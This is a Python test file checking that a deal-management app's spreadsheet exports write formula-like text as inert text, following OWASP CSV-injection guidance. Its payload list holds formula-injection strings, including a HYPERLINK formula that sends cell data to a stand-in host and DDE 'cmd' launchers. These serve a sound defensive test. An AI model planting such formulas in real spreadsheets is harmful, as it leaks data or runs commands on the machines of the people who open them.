"""Spreadsheets the deal team sends never carry a live formula (issue 26, item 12): a Q&A
question reworded to `=HYPERLINK(…)` was written as a formula into the Q&A XLSX, and the IRL
export had the same hole. Every text cell is text, as OWASP's CSV-injection guidance says."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook

from manda.app import Manda
from manda.exports.xlsx import as_text, write_table
from manda.irl.model import IrlItem, IrlProject
from manda.irl.service import export_irl_xlsx

PAYLOADS = (
    '=HYPERLINK("https://evil.example/?d="&A1,"Click for the data room")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "＝1+1",  # a full-width equals sign
    "＠SUM(A1)",
)
KEPT = ("What was Q3 2024 revenue?", "Is the 5% - 7% churn range audited?", "EBITDA = ?")


def cells(path: Path) -> list:  # type: ignore[type-arg]
    sheet = load_workbook(path).active
    assert sheet is not None
    return [c for row in sheet.iter_rows() for c in row if c.value is not None]


def assert_no_formula(path: Path, payloads: tuple[str, ...]) -> None:
    found = cells(path)
    assert not [c.coordinate for c in found if c.data_type == "f"]
    texts = [c.value for c in found if isinstance(c.value, str)]
    for payload in payloads:
        assert f"'{payload}" in texts or any(f"'{payload}" in t for t in texts), payload
    for text in texts:
        first = text.lstrip(" \n")[:1]
        assert first not in ("=", "+", "-", "@", "＝", "＠") and text[:1] not in ("\t", "\r")


async def test_the_qa_export_writes_every_question_as_text(app: Manda, tmp_path: Path) -> None:
    for question in (*PAYLOADS, *KEPT):
        await app.deals.add_question("targetco", question, by="U1", category="=cmd|'/C calc'!A0")
    path, count = await app.deals.export_questions("targetco", tmp_path / "qa.xlsx")
    stored = [i.question for i in await app.deals.questions("targetco")]  # as the list keeps them
    assert count == len(stored) >= len(KEPT) + 5
    assert_no_formula(path, tuple(q for q in stored if q not in KEPT))
    texts = {c.value for c in cells(path)}
    assert set(KEPT) <= texts  # ordinary questions are written as they are


def test_the_irl_export_writes_every_request_as_text(tmp_path: Path) -> None:
    items = [IrlItem(ref=f"{n}", category="Finance", request=p, purpose="=1+1")
             for n, p in enumerate(PAYLOADS, 1)]
    project = IrlProject(deal_id="targetco", items=items)
    assert_no_formula(export_irl_xlsx(project, tmp_path / "irl.xlsx"), PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(payload: str) -> None:
    assert as_text(payload) == f"'{payload}"


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    path = write_table(tmp_path / "t.xlsx", sheet="T", headers=("n", "t"),
                       rows=[[-5, "-5"], [3.5, "ok"]])
    values = [(c.value, c.data_type) for c in cells(path)][2:]
    assert values == [(-5, "n"), ("'-5", "s"), (3.5, "n"), ("ok", "s")]
